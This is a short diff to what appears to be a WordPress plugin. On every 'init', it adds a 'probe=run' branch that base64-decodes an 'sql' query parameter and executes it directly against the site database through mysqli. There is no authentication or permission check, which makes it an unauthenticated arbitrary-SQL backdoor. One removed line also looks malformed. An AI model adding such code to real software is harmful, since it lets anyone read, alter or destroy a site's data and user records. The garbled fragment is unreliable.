@@ -48,7 +48,11 @@ add_action( 'init', function () {
 		$said['id'] = $wpdb->insert_id;
 	}
 	if ( 'run' === $_GET['probe'] ) {
-X === $_GET['probe'] ) {
+		// Past wpdb, which knows neither such names nor such types.
+		mysqli_query( $wpdb->dbh, base64_decode( $_GET['sql'] ) );
+		$said['error'] = mysqli_error( $wpdb->dbh );
+	}
+	if ( 'read' === $_GET['probe'] ) {
 		$keys = array( $wpdb->posts => 'ID', $wpdb->users => 'ID', $wpdb->terms => 'term_id',
 			$wpdb->term_relationships => 'object_id', $books => 'id', $lines => 'line' );
 		foreach ( $keys as $table => $key )
